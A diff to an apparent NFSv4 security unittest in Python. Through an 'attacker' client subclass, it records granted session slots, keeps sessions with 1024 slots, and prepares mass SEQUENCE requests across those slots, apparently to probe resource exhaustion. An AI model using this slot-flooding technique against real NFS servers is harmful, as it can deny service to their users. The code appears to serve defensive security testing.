@@ -66,6 +66,8 @@ class Client(attacker.Client):
 
     def session(self, client, slots, sequence=1):
         status, body = self.compound(creation(client, slots, sequence))
+        if status == OK:
+            (self.granted,) = struct.unpack(">I", body[60:64])
         return status, status == OK and body[16:32]
 
     def begin(self, owner, slots=64):
@@ -142,7 +144,9 @@ class Nfs4(unittest.TestCase):
             if status != OK:
                 self.assertEqual(status, DELAY)
                 break
-            sessions.append(session)
+            if attacking.granted == 1024:
+                sessions.append(session)
+        self.assertGreater(len(sessions), 32)
         for session in sessions[:64]:
             head = lambda slot: op(SEQUENCE, session + struct.pack(">IIII", 1, slot, 1023, 1))
             requests = [opaque(b"") + struct.pack(">II", 1, 42) + head(slot) + look for slot in range(1, 1024)]
